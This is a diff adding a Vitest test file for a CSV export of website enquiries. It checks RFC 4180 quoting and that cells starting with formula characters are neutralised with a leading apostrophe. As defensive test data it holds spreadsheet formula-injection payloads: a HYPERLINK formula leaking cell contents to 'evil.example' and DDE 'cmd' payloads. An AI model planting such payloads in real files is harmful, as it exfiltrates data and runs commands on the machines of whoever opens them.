@@ -1,0 +1,137 @@
+// The export as a spreadsheet program reads it: every text in its cell, none of them a formula.
+import { describe, expect, it, test } from "vitest";
+import type { ListedEnquiry } from "#server/enquiries/outbox/enquiry-store.ts";
+import { toCsv } from "./to-csv.ts";
+
+const listed: ListedEnquiry = {
+  reference: "SPH-7K3Q-9F2M",
+  receivedAt: Date.UTC(2026, 0, 31, 12),
+  language: "fr",
+  browserLanguage: "",
+  suspicions: ["haste", "links"],
+  status: "sent",
+  deliveredAt: Date.UTC(2026, 0, 31, 12, 1),
+  nextAttemptAt: null,
+  enquiry: {
+    email: "claire@maison-oree.example",
+    phone: "04 65 71 20 10",
+    company: "Maison Orée",
+    country: "France",
+    message: "Bonjour",
+    product: "",
+    page: "/liposomes",
+  },
+};
+
+const withCompany = (company: string): ListedEnquiry => ({
+  ...listed,
+  enquiry: { ...listed.enquiry, company },
+});
+
+/** Reads a table as RFC 4180 has it, byte by byte; throws where a cell is not quoted or not closed. */
+function parseCsv(text: string, separator: string): string[][] {
+  const rows: string[][] = [];
+  let at = 0;
+  while (at < text.length) {
+    const row: string[] = [];
+    for (;;) {
+      if (text[at] !== '"') throw new Error(`no quote at ${at}`);
+      let cell = "";
+      for (at += 1; ; at += 1) {
+        if (at >= text.length) throw new Error("a cell does not end");
+        if (text[at] !== '"') cell += text[at];
+        else if (text[at + 1] === '"') {
+          cell += '"';
+          at += 1;
+        } else break;
+      }
+      row.push(cell);
+      at += 1;
+      if (text[at] !== separator) break;
+      at += 1;
+    }
+    if (text.slice(at, at + 2) !== "\r\n") throw new Error(`no line break at ${at}`);
+    at += 2;
+    rows.push(row);
+  }
+  return rows;
+}
+
+function readBack(enquiries: readonly ListedEnquiry[], separator: "," | ";" = ",") {
+  const [heading = [], ...rows] = parseCsv(toCsv(enquiries, separator).slice(1), separator);
+  return rows.map((cells) => {
+    expect(cells).toHaveLength(heading.length);
+    return Object.fromEntries(heading.map((name, column) => [name, cells[column]]));
+  });
+}
+
+const companyReadBack = (company: string) => readBack([withCompany(company)])[0]?.["company"];
+
+it("begins with a byte order mark and ends every line as RFC 4180 has it", () => {
+  const csv = toCsv([listed], ",");
+  expect([...Buffer.from(csv).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  expect(csv.endsWith('"\r\n')).toBe(true);
+});
+
+it("has every fact and field in its column", () => {
+  expect(readBack([listed])).toEqual([
+    {
+      reference: "SPH-7K3Q-9F2M",
+      received: "2026-01-31T12:00:00.000Z",
+      status: "sent",
+      delivered: "2026-01-31T12:01:00.000Z",
+      suspect: "haste links",
+      language: "fr",
+      ...listed.enquiry,
+    },
+  ]);
+  expect(readBack([{ ...listed, deliveredAt: null }])[0]?.["delivered"]).toBe("");
+});
+
+it("is a heading alone when there is nothing", () => {
+  expect(parseCsv(toCsv([], ",").slice(1), ",")).toHaveLength(1);
+});
+
+test.each([
+  'said "yes"',
+  '"',
+  '""',
+  "a,b;c\td",
+  "one\ntwo\r\nthree\rfour",
+  '",=1+1,"',
+  "Œuvre 👩‍🔬 日本",
+])("gives %j back as it was, with either separator", (text) => {
+  for (const separator of [",", ";"] as const)
+    expect(readBack([withCompany(text), listed], separator)[0]?.["company"]).toBe(text);
+});
+
+describe("a text that a spreadsheet would compute", () => {
+  const starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"];
+  const blanks = ["", " ", "   ", "\t", "\r\n", "\u00a0", "\u2003"];
+  const harmful = starts.flatMap((sign) => blanks.map((blank) => `${blank}${sign}1+1`));
+
+  test.each(harmful)("%j gets an apostrophe first", (text) => {
+    expect(companyReadBack(text)).toBe(`'${text}`);
+  });
+
+  test.each([
+    '=HYPERLINK("https://evil.example?leak="&A1,"Voir")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+33 4 65 71 20 10",
+  ])("%j is text in whichever field it stands", (text) => {
+    const fields = Object.fromEntries(
+      Object.keys(listed.enquiry).map((name) => [name, text]),
+    ) as ListedEnquiry["enquiry"];
+    const [row] = readBack([{ ...listed, enquiry: fields }]);
+    for (const name of Object.keys(listed.enquiry)) expect(row?.[name]).toBe(`'${text}`);
+  });
+
+  test.each(["a=1", "1-2", "claire@maison-oree.example", "C+", "'quoted'", " indented", ""])(
+    "%j is none and stays as it is",
+    (text) => {
+      expect(companyReadBack(text)).toBe(text);
+    },
+  );
+});
